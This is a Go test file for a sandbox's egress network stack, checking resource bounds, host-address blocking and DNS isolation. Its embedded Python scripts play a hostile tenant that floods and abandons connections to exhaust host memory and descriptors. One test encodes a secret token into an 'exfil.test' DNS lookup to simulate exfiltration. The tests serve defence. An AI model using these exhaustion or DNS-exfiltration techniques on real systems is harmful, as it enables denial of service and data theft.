package sandbox

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"os"
	"runtime"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"
)

// The egress stack against code in the sandbox that opens flows as fast
// as it can and forgets them: each flow holds host descriptors,
// goroutines and buffers the sandbox's own limits do not count.

// openFDs counts this process's open descriptors.
func openFDs(t *testing.T) int {
	t.Helper()
	entries, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		t.Fatal(err)
	}
	return len(entries)
}

// TestEgressFlowsBounded: a sandbox sends one datagram from each of 4000
// sockets it closes at once, then opens 1000 connections to a server
// that never answers and closes them. The host holds at most the stack's
// bound of flows for it (a few goroutines and one descriptor each), not
// one per datagram or connection, and another sandbox's egress works
// throughout.
func TestEgressFlowsBounded(t *testing.T) {
	sink := udpServer(t, func([]byte) []byte { return nil })
	silent, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var held []net.Conn
	go func() {
		for {
			c, err := silent.Accept()
			if err != nil {
				return
			}
			mu.Lock()
			held = append(held, c) // waits for a request that never comes
			mu.Unlock()
		}
	}()
	t.Cleanup(func() {
		silent.Close()
		mu.Lock()
		for _, c := range held {
			c.Close()
		}
		mu.Unlock()
	})
	toSinks := func(ctx context.Context, network, addr string) (net.Conn, error) {
		var d net.Dialer
		if network == "udp" {
			return d.DialContext(ctx, network, sink.LocalAddr().String())
		}
		return d.DialContext(ctx, network, silent.Addr().String())
	}
	addr, hits := hostServer(t)
	_, port, _ := net.SplitHostPort(addr)
	victim := egressInstance(t, WithDialer(rewrite(addr, DefaultDialer(netip.MustParsePrefix("127.0.0.1/32")))))
	attacker := egressInstance(t, WithDialer(toSinks))
	goroutines, fds := runtime.NumGoroutine(), openFDs(t)
	script := `
import socket
for i in range(4000):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"x", ("192.0.2.10", 9))
    s.close()
refused = 0
for i in range(1000):
    try:
        s = socket.create_connection(("192.0.2.10", 80), timeout=10)
        s.close()
    except OSError:
        refused += 1
print(refused)
`
	out, err := attacker.Command("python3", "-c", script).CombinedOutput()
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	grewG, grewFD := runtime.NumGoroutine()-goroutines, openFDs(t)-fds
	mu.Lock()
	accepted := len(held)
	mu.Unlock()
	t.Logf("after 4000 datagrams and 1000 connections (%s refused): host goroutines +%d, descriptors +%d; the silent server holds %d",
		out[:len(out)-1], grewG, grewFD, accepted)
	// Each UDP flow holds 3 goroutines and 1 descriptor, each TCP flow 3
	// and 1 (plus the test server's end of it).
	if most := 3*(256+256) + 50; grewG > most {
		t.Errorf("the host holds %d more goroutines for one sandbox's forgotten flows; at most %d hold the bound", grewG, most)
	}
	if most := 256 + 2*256 + 50; grewFD > most {
		t.Errorf("the host holds %d more descriptors for one sandbox's forgotten flows; at most %d hold the bound", grewFD, most)
	}
	if got := run(t, victim, "wget -q -O - http://192.0.2.10:"+port+"/"); got != "hello from the host" || hits.Load() != 1 {
		t.Errorf("another sandbox's fetch: %q, %d requests", got, hits.Load())
	}
}

// TestEgressHostOwnAddress: a service of the host on one of its own
// addresses (not loopback; on 0.0.0.0 alike) is the host as much as its
// loopback: the default dialer refuses it.
func TestEgressHostOwnAddress(t *testing.T) {
	var host netip.Addr
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range addrs {
		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() && !p.Addr().IsLoopback() && !p.Addr().IsLinkLocalUnicast() {
			host = p.Addr()
			break
		}
	}
	if !host.IsValid() {
		t.Skip("this host has no IPv4 address but loopback")
	}
	ln, err := net.Listen("tcp", netip.AddrPortFrom(host, 0).String())
	if err != nil {
		t.Fatal(err)
	}
	var hits atomic.Int32
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		fmt.Fprint(w, "the host's own service")
	})}
	go srv.Serve(ln)
	defer srv.Close()
	inst := egressInstance(t)
	out, err := inst.Command("wget", "-q", "-O", "-", "http://"+ln.Addr().String()+"/").CombinedOutput()
	if hits.Load() != 0 || err == nil {
		t.Errorf("the default dialer let the sandbox reach the host at %v: %q, %v", host, out, err)
	}
	// Allowed on purpose, it is reached.
	allowed := egressInstance(t, WithDialer(DefaultDialer(netip.PrefixFrom(host, 32))))
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	out, err = allowed.CommandContext(ctx, "wget", "-q", "-O", "-", "http://"+ln.Addr().String()+"/").CombinedOutput()
	if err != nil || string(out) != "the host's own service" {
		t.Errorf("allowed %v: %q, %v", host, out, err)
	}
}

// fakeNameserver answers DNS on the host's loopback: A 192.0.2.10 for
// svc.test, NXDOMAIN for every other name; it records the names asked.
func fakeNameserver(t *testing.T) (addr string, asked func() []string) {
	t.Helper()
	var mu sync.Mutex
	var names []string
	pc := udpServer(t, func(query []byte) []byte {
		var p dnsmessage.Parser
		h, err := p.Start(query)
		if err != nil {
			return nil
		}
		q, err := p.Question()
		if err != nil {
			return nil
		}
		mu.Lock()
		names = append(names, q.Name.String())
		mu.Unlock()
		resp := dnsmessage.Header{ID: h.ID, Response: true, RCode: dnsmessage.RCodeNameError}
		if q.Name.String() == "svc.test." {
			resp.RCode = dnsmessage.RCodeSuccess
		}
		b := dnsmessage.NewBuilder(nil, resp)
		b.StartQuestions()
		b.Question(q)
		if resp.RCode == dnsmessage.RCodeSuccess && q.Type == dnsmessage.TypeA {
			b.StartAnswers()
			b.AResource(dnsmessage.ResourceHeader{Name: q.Name, Class: dnsmessage.ClassINET, TTL: 60}, dnsmessage.AResource{A: [4]byte{192, 0, 2, 10}})
		}
		out, err := b.Finish()
		if err != nil {
			return nil
		}
		return out
	})
	return pc.LocalAddr().String(), func() []string {
		mu.Lock()
		defer mu.Unlock()
		return slices.Clone(names)
	}
}

// resolverAt is a Go resolver that asks the nameserver at addr, or, with
// addr empty, refuses to ask any.
func resolverAt(addr string) *net.Resolver {
	return &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
		if addr == "" {
			return nil, errors.New("no nameserver for this sandbox")
		}
		var d net.Dialer
		return d.DialContext(ctx, network, addr)
	}}
}

// TestEgressDNSResolver: the sandbox's DNS queries are answered by the
// resolver WithDNSResolver gives, not the host program's: one that asks a
// nameserver of the caller's resolves through it; one that asks none
// gives the sandbox no names, and nothing the sandbox spells in a name
// reaches the host's resolver (standing in for it here: the default
// resolver, pointed at a nameserver of the test's).
func TestEgressDNSResolver(t *testing.T) {
	hostNS, hostAsked := fakeNameserver(t)
	savedGo, savedDial := net.DefaultResolver.PreferGo, net.DefaultResolver.Dial
	net.DefaultResolver.PreferGo, net.DefaultResolver.Dial = true, resolverAt(hostNS).Dial
	t.Cleanup(func() { net.DefaultResolver.PreferGo, net.DefaultResolver.Dial = savedGo, savedDial })
	callerNS, callerAsked := fakeNameserver(t)

	refuse := func(ctx context.Context, network, addr string) (net.Conn, error) {
		return nil, fmt.Errorf("%s %s: refused", network, addr)
	}
	inst := egressInstance(t, WithDialer(refuse), WithDNSResolver(resolverAt(callerNS)))
	out, err := inst.Command("busybox", "nslookup", "svc.test", "10.0.2.2").CombinedOutput()
	if err != nil || !strings.Contains(string(out), "192.0.2.10") || !slices.Contains(callerAsked(), "svc.test.") {
		t.Errorf("nslookup svc.test through the caller's resolver: %v\n%s\nthe caller's nameserver was asked %q", err, out, callerAsked())
	}

	secret := "73656372657420746f6b656e.exfil.test"
	closed := egressInstance(t, WithDialer(refuse), WithDNSResolver(resolverAt("")))
	if out, err := closed.Command("busybox", "nslookup", secret, "10.0.2.2").CombinedOutput(); err == nil {
		t.Errorf("nslookup with a resolver that asks no nameserver succeeded:\n%s", out)
	}
	for _, name := range append(hostAsked(), callerAsked()...) {
		if strings.Contains(name, "exfil") {
			t.Errorf("the sandbox's name %q reached a nameserver", name)
		}
	}
	if names := hostAsked(); len(names) != 0 {
		t.Errorf("the host's resolver was asked %q", names)
	}
}

// heapMiB is the heap this process uses, in MiB, after a collection.
func heapMiB() int {
	runtime.GC()
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	return int(ms.HeapInuse >> 20)
}

// runHeld starts the Python script in inst and returns the first line it
// prints; the script then holds what it made until its input ends, when
// the test does.
func runHeld(t *testing.T, inst *Instance, script string) string {
	t.Helper()
	cmd := inst.Command("python3", "-c", script)
	var stderr strings.Builder
	cmd.Stderr = &stderr
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		stdin.Close() // ends the script
		cmd.Wait()
	})
	line, err := bufio.NewReader(out).ReadString('\n')
	if err != nil {
		stdin.Close()
		werr := cmd.Wait()
		t.Fatalf("the sandbox's script: %q, %v (%v)\n%s", line, err, werr, stderr.String())
	}
	return line
}

// sendAndClose is a dialer whose every TCP far end sends n bytes, then
// closes: a server of the sandbox's choosing, in-process so that nothing
// it holds counts against the stack.
func sendAndClose(n int) DialFunc {
	return func(ctx context.Context, network, addr string) (net.Conn, error) {
		if network != "tcp" {
			return nil, errors.New("refused")
		}
		a, b := net.Pipe()
		go func() {
			defer b.Close()
			chunk := make([]byte, 32<<10)
			for left := n; left > 0; left -= len(chunk) {
				b.SetWriteDeadline(time.Now().Add(time.Minute))
				if _, err := b.Write(chunk); err != nil {
					return
				}
			}
		}()
		return a, nil
	}
}

// TestEgressReleasedFlowsHoldNothing: a sandbox half-closes connection
// after connection and never reads what its server sent (its window shut),
// so each flow's splice ends with the stack's bytes for it unacknowledged.
// The stack let those flows go (their slots given back) while each
// endpoint kept its queued bytes, flow after flow past the bound: 2000
// such flows held some 600 MiB of the host's heap for a sandbox of
// 128 MiB. A flow now keeps its slot until the sandbox has taken its
// bytes (or is reset after a while), so the bound holds.
func TestEgressReleasedFlowsHoldNothing(t *testing.T) {
	inst := egressInstance(t, WithDialer(sendAndClose(768<<10)))
	heap := heapMiB()
	script := `
import socket, select, resource
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
socks, refused = [], 0
for i in range(2000):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    try:
        s.settimeout(10)
        s.connect(("192.0.2.10", 80))
    except OSError:
        refused += 1
        s.close()
        continue
    p = select.poll()
    p.register(s, select.POLLIN)
    p.poll(5000)
    s.shutdown(socket.SHUT_WR)
    socks.append(s)
print(len(socks), refused, flush=True)
input()
`
	line := runHeld(t, inst, script)
	grew := heapMiB() - heap
	t.Logf("connections kept and refused: %s; the host's heap grew %d MiB", strings.TrimSpace(line), grew)
	if grew > 200 {
		t.Errorf("the host holds %d MiB for one sandbox's flows, past what its bound allows", grew)
	}
}

// sendForever is a dialer whose every TCP far end sends without end and
// reads nothing, in-process as sendAndClose's.
func sendForever(t *testing.T) DialFunc {
	var mu sync.Mutex
	var ends []net.Conn
	t.Cleanup(func() {
		mu.Lock()
		defer mu.Unlock()
		for _, c := range ends {
			c.Close()
		}
	})
	return func(ctx context.Context, network, addr string) (net.Conn, error) {
		if network != "tcp" {
			return nil, errors.New("refused")
		}
		a, b := net.Pipe()
		mu.Lock()
		ends = append(ends, b)
		mu.Unlock()
		go func() {
			chunk := make([]byte, 32<<10)
			for {
				if _, err := b.Write(chunk); err != nil {
					return
				}
			}
		}()
		return a, nil
	}
}

// TestEgressFlowBuffersBounded: a sandbox fills its 256 flows both ways
// and reads nothing, to far ends that send without end and read nothing:
// what the host then holds for it, outside every limit of the sandbox's,
// is what the stack and the copies buffer for each flow in each
// direction, 256 times. It was 3 MiB a flow, over 800 MiB in all (a
// sandbox limited to 128 MiB could do it); flows past a sandbox's first
// 16 now get small buffers, which bounds it near 300 MiB.
func TestEgressFlowBuffersBounded(t *testing.T) {
	inst := egressInstance(t, WithDialer(sendForever(t)))
	heap := heapMiB()
	script := `
import socket, time
socks = []
for i in range(256):
    s = socket.create_connection(("192.0.2.10", 80), timeout=10)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.setblocking(False)
    socks.append(s)
sent, idle = 0, 0
while idle < 5:
    before = sent
    for s in socks:
        try:
            while True:
                sent += s.send(b"x" * 65536)
        except BlockingIOError:
            pass
    idle = idle + 1 if sent == before else 0
    time.sleep(0.05)
print(sent >> 20, flush=True)
input()
`
	line := runHeld(t, inst, script)
	grew := heapMiB() - heap
	t.Logf("the sandbox sent %s MiB, until every flow was full; the host's heap grew %d MiB", strings.TrimSpace(line), grew)
	if grew > 320 {
		t.Errorf("the host holds %d MiB for one sandbox's 256 flows", grew)
	}
}
